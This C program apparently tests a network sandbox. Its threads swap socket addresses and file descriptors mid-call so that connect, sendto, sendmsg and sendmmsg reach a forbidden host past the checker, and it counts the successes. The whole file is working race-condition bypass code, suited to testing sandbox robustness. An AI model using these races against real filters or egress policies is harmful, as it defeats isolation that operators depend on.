/* Tries to reach the forbidden host by changing what was judged.
 * usage: netrace MODE ROUNDS ALLOWED FORBIDDEN PORT
 * Prints the number of calls that were answered with success. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <sched.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static union { struct sockaddr a; struct sockaddr_in in; struct sockaddr_un un; struct sockaddr_storage s; } target, good, bad, unx;
static struct msghdr msg;
static struct mmsghdr vec[4];
static struct iovec iov = {"x", 1};
static atomic_int stop;
static int slot, safe, risky;
static long rounds;

/* Keep the compiler from merging the two states, and give each some time. */
static inline void rest(void) { for (volatile int i = 0; i < 100; i++) ; __asm__ volatile("" ::: "memory"); }

static void *flip_addr(void *p) {
	(void)p;
	while (!stop) { memcpy(&target, &good, sizeof good.in); rest(); memcpy(&target, &bad, sizeof bad.in); rest(); }
	return 0;
}
static void *flip_name(void *p) {
	(void)p;
	while (!stop) { msg.msg_name = vec[1].msg_hdr.msg_name = &good; rest(); msg.msg_name = vec[1].msg_hdr.msg_name = &bad; rest(); }
	return 0;
}
static void *flip_fd(void *p) {
	(void)p;
	while (!stop) { dup2(risky, slot); dup2(safe, slot); }
	return 0;
}
static void *flip_fd_name(void *p) {
	(void)p;
	while (!stop) { dup2(risky, slot); msg.msg_name = &bad; rest(); msg.msg_name = 0; dup2(safe, slot); rest(); }
	return 0;
}
static void *drain(void *p) { char b[1 << 16]; while (read(*(int *)p, b, sizeof b) > 0) ; return 0; }
static void *flip_both(void *p) {
	(void)p;
	while (!stop) { dup2(risky, slot); memcpy(&target, &bad, sizeof bad.in); dup2(safe, slot); memcpy(&target, &unx, sizeof unx.un); }
	return 0;
}

int main(int argc, char **argv) {
	if (argc < 6) return 2;
	const char *mode = argv[1]; rounds = atol(argv[2]);
	good.in = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons(atoi(argv[5]))}; bad = good;
	inet_pton(AF_INET, argv[3], &good.in.sin_addr); inet_pton(AF_INET, argv[4], &bad.in.sin_addr);
	unx.un.sun_family = AF_UNIX; strcpy(unx.un.sun_path + 1, "limpet-race");
	target = good;
	int l = socket(AF_UNIX, SOCK_DGRAM, 0); bind(l, &unx.a, sizeof unx.un);
	pthread_t t, u; long ok = 0; int s;
	msg = (struct msghdr){.msg_name = &good, .msg_namelen = sizeof good.in, .msg_iov = &iov, .msg_iovlen = 1};
	for (int i = 0; i < 4; i++) vec[i].msg_hdr = msg;
	if (!strcmp(mode, "connect")) {
		pthread_create(&t, 0, flip_addr, 0);
		for (long i = 0; i < rounds; i++) { s = socket(AF_INET, SOCK_STREAM, 0); ok += connect(s, &target.a, sizeof target.in) == 0; close(s); }
	} else if (!strcmp(mode, "udpconnect")) {
		pthread_create(&t, 0, flip_addr, 0); s = socket(AF_INET, SOCK_DGRAM, 0);
		for (long i = 0; i < rounds; i++) { if (connect(s, &target.a, sizeof target.in) == 0) ok += write(s, "x", 1) == 1; }
	} else if (!strcmp(mode, "sendto")) {
		pthread_create(&t, 0, flip_addr, 0); s = socket(AF_INET, SOCK_DGRAM, 0);
		for (long i = 0; i < rounds; i++) ok += sendto(s, "x", 1, 0, &target.a, sizeof target.in) == 1;
	} else if (!strcmp(mode, "sendmsg")) {
		pthread_create(&t, 0, flip_name, 0); s = socket(AF_INET, SOCK_DGRAM, 0);
		for (long i = 0; i < rounds; i++) ok += sendmsg(s, &msg, 0) == 1;
	} else if (!strcmp(mode, "sendmmsg")) {
		pthread_create(&t, 0, flip_name, 0); s = socket(AF_INET, SOCK_DGRAM, 0);
		for (long i = 0; i < rounds; i += 4) { int r = sendmmsg(s, vec, 4, 0); if (r > 0) ok += r; }
	} else if (!strcmp(mode, "swapconnect")) { /* a unix socket gives way to a TCP socket */
		safe = socket(AF_UNIX, SOCK_DGRAM, 0); risky = socket(AF_INET, SOCK_STREAM, 0); slot = dup(safe);
		pthread_create(&t, 0, flip_both, 0);
		for (long i = 0; i < rounds; i++) {
			ok += connect(slot, &target.a, i & 1 ? sizeof target.un : sizeof target.in) == 0;
			if (i % 64 == 0) { close(risky); risky = socket(AF_INET, SOCK_STREAM, 0); }
		}
	} else if (!strcmp(mode, "swapsend")) { /* a unix socket gives way to a UDP socket */
		safe = socket(AF_UNIX, SOCK_DGRAM, 0); risky = socket(AF_INET, SOCK_DGRAM, 0); slot = dup(safe);
		msg.msg_name = &bad;
		pthread_create(&t, 0, flip_fd, 0);
		for (long i = 0; i < rounds; i++) ok += sendmsg(slot, &msg, 0) == 1;
	} else if (!strcmp(mode, "swapname")) { /* and the address appears with it */
		int p[2]; socketpair(AF_UNIX, SOCK_STREAM, 0, p); safe = p[0]; risky = socket(AF_INET, SOCK_DGRAM, 0); slot = dup(safe);
		pthread_create(&t, 0, flip_fd_name, 0); pthread_create(&u, 0, drain, &p[1]);
		for (long i = 0; i < rounds; i++) ok += sendmsg(slot, &msg, i & 1 ? MSG_NOSIGNAL : MSG_DONTWAIT) == 1;
	} else if (!strcmp(mode, "swapmmsg")) {
		safe = socket(AF_UNIX, SOCK_DGRAM, 0); risky = socket(AF_INET, SOCK_DGRAM, 0); slot = dup(safe);
		for (int i = 0; i < 4; i++) vec[i].msg_hdr.msg_name = &bad;
		pthread_create(&t, 0, flip_fd, 0);
		for (long i = 0; i < rounds; i += 4) { int r = sendmmsg(slot, vec, 4, 0); if (r > 0) ok += r; }
	} else if (!strcmp(mode, "swapconnectudp")) { /* a unix socket gives way to a UDP socket */
		safe = socket(AF_UNIX, SOCK_DGRAM, 0); risky = socket(AF_INET, SOCK_DGRAM, 0); slot = dup(safe);
		pthread_create(&t, 0, flip_both, 0);
		for (long i = 0; i < rounds; i++) { ok += connect(slot, &target.a, i & 1 ? sizeof target.un : sizeof target.in) == 0; send(risky, "x", 1, MSG_DONTWAIT); }
	} else return 2;
	stop = 1; pthread_join(t, 0); printf("%ld\n", ok); return 0;
}
